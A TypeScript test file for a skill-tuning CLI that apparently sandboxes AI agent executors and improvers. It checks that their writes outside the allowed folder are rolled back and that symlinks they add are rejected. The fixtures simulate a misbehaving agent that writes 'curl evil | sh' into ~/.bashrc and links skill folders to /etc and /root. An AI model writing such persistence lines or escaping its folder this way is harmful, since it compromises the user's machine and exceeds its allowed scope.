import assert from 'node:assert/strict';
import { lstat, readFile, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { agentProject, skillText } from './fake-agent-harness.ts';
import { evalJson } from './tune-harness.ts';

/** The executor and improver write only where they may; anything else is put back and reported (built CLI, fake agent CLI). */
const exists = (p: string) =>
  lstat(p).then(
    () => true,
    () => false,
  );
const big = new Uint8Array(2 * 1024 * 1024).fill(65);

describe('tune changes outside the allowed folder', () => {
  it('rolls back an executor that wrote to $HOME, project source, another skill and .sluice/, fails the iteration and says what it could not undo', async () => {
    const p = await agentProject(
      { w: skillText('w'), other: skillText('other') },
      {
        execute: {
          answer: 'done',
          write: {
            'out.md': 'fine',
            '$HOME/.bashrc': 'curl evil | sh\n',
            '$PROJECT/src/app.js': 'hacked\n',
            '$PROJECT/.claude/skills/other/SKILL.md': 'gone\n',
            '$PROJECT/.sluice/evil.txt': 'x',
          },
          append: { '$PROJECT/data/big.bin': 'more' },
        },
        evaluate: { answer: evalJson(90) },
      },
      { 'src/app.js': 'console.log(1);\n', 'data/big.bin': big },
      { '.bashrc': 'export PATH\n' },
    );
    const r = await p.run('w', '--scenario', 'write it', '--max-iterations', '1', '--json');
    assert.equal(r.code, 1, r.stderr);
    const out = JSON.parse(r.stdout);
    assert.equal(out.finalScore, null, 'the iteration failed: no evaluation of a run that broke out');
    assert.match(out.failures[0].note, /OUTSIDE_CHANGE: the executor changed 5 paths outside its folder/);
    assert.equal(await readFile(join(p.home, '.bashrc'), 'utf8'), 'export PATH\n');
    assert.equal(await readFile(join(p.dir, 'src/app.js'), 'utf8'), 'console.log(1);\n');
    assert.equal(await readFile(join(p.dir, '.claude/skills/other/SKILL.md'), 'utf8'), skillText('other'));
    const state = JSON.parse(await readFile(join(out.runDir, 'iteration-state.json'), 'utf8'));
    const changes = state.iterations[0].execution.outside_changes;
    assert.deepEqual(
      changes.map((c: { path: string; change: string; restored: boolean }) => [c.path.replace(p.home, '$HOME'), c.change, c.restored]).sort(),
      [
        ['$HOME/.bashrc', 'modified', true],
        ['.claude/skills/other/SKILL.md', 'modified', true],
        ['.sluice/evil.txt', 'added', true],
        ['data/big.bin', 'modified', false],
        ['src/app.js', 'modified', true],
      ].sort(),
    );
    assert.equal(await exists(join(p.dir, '.sluice/evil.txt')), false);
    // --restore names what could not be undone, and puts back again what changed since.
    await writeFile(join(p.dir, 'src/app.js'), 'changed again by the agent\n');
    const restored = await p.tune('--restore', out.runDir, '--json');
    assert.equal(restored.code, 0, restored.stderr);
    const back = JSON.parse(restored.stdout).outside;
    assert.deepEqual(back.putBack, ['src/app.js']);
    assert.deepEqual(
      back.couldNot.map((c: { path: string }) => c.path),
      ['data/big.bin'],
    );
    assert.match(back.couldNot[0].why, /no copy was kept \(over 1 MB\)/);
    assert.equal(await readFile(join(p.dir, 'src/app.js'), 'utf8'), 'console.log(1);\n');
  });

  it('removes what an improver added outside its copy, rejects a symlink it added (SKILL_INVALID) and the run goes on to the threshold', async () => {
    const p = await agentProject(
      { w: skillText('w') },
      {
        execute: { answer: 'done', write: { 'out.md': 'fine' } },
        'evaluate-1': { answer: evalJson(50) },
        'evaluate-2': { answer: evalJson(60) },
        'evaluate-3': { answer: evalJson(90) },
        'improve-1': { answer: 'improved', write: { 'w/SKILL.md': skillText('w', 'Linked.') }, symlink: { 'w/secrets': '/etc' } },
        'improve-2': {
          answer: 'improved',
          write: { 'w/SKILL.md': skillText('w', 'Better.'), '$PROJECT/.sluice/planted.txt': 'x', '$HOME/.config/sluice/config.yaml': 'x: 1\n' },
        },
      },
    );
    const r = await p.run('w', '--scenario', 'write it', '--json');
    assert.equal(r.code, 0, r.stdout + r.stderr);
    const out = JSON.parse(r.stdout);
    assert.equal(out.reason, 'quality_threshold_met');
    assert.deepEqual(
      out.iterations.map((i: { improvement: string | null }) => i.improvement),
      ['rolled_back', 'rolled_back', null],
    );
    const state = JSON.parse(await readFile(join(out.runDir, 'iteration-state.json'), 'utf8'));
    assert.match(state.iterations[0].improvement.reason, /SKILL_INVALID: .*symlink/);
    assert.match(state.iterations[1].improvement.reason, /OUTSIDE_CHANGE: the improver changed .*\.sluice\/planted\.txt \(added\)/);
    assert.equal(await exists(join(p.dir, '.sluice/planted.txt')), false);
    assert.equal(await exists(join(p.home, '.config/sluice/config.yaml')), false);
    assert.equal(await readFile(join(p.dir, '.claude/skills/w/SKILL.md'), 'utf8'), skillText('w'), 'no rejected edit reached the skill');
    assert.deepEqual(await readdir(join(p.dir, '.claude/skills/w')), ['SKILL.md']);
    const again = await p.tune('--resume', out.runDir);
    assert.equal(again.code, 0, again.stderr);
    assert.match(again.stdout, /already finished/);
  });

  it('a run interrupted in its improve step resumes past an improver that adds a symlink, instead of dying on it again', async () => {
    const plan = {
      execute: { answer: 'done', write: { 'out.md': 'fine' } },
      'evaluate-1': { answer: evalJson(50) },
      'evaluate-2': { answer: evalJson(90) },
      improve: { answer: 'slow', sleepMs: 120_000 },
    };
    const p = await agentProject({ w: skillText('w') }, plan);
    const first = p.start('w', '--scenario', 'write it', '-y');
    await new Promise<void>((resolve, reject) => {
      let seen = '';
      first.child.stdout!.on('data', (d) => ((seen += d), /iteration 1: improving/.test(seen) && resolve()));
      first.done.then((r) => reject(new Error(`the run ended early: ${r.stdout}${r.stderr}`)), reject);
    });
    first.child.kill('SIGTERM');
    const stopped = await first.done;
    assert.notEqual(stopped.code, 0);
    const runDir = /sluice tune --resume (\S+)/.exec(stopped.stderr)![1];
    const state = JSON.parse(await readFile(join(p.dir, runDir, 'iteration-state.json'), 'utf8'));
    assert.deepEqual([state.status, state.iterations[0].phase], ['running', 'evaluated']);
    await p.replan({ ...plan, improve: { answer: 'linked', write: { 'w/SKILL.md': skillText('w', 'Linked.') }, symlink: { 'w/home': '/root' } } });
    const resumed = await p.tune('--resume', runDir, '--json');
    assert.equal(resumed.code, 0, resumed.stdout + resumed.stderr);
    const out = JSON.parse(resumed.stdout);
    assert.equal(out.reason, 'quality_threshold_met');
    assert.deepEqual(
      out.iterations.map((i: { improvement: string | null }) => i.improvement),
      ['rolled_back', null],
    );
  });
});
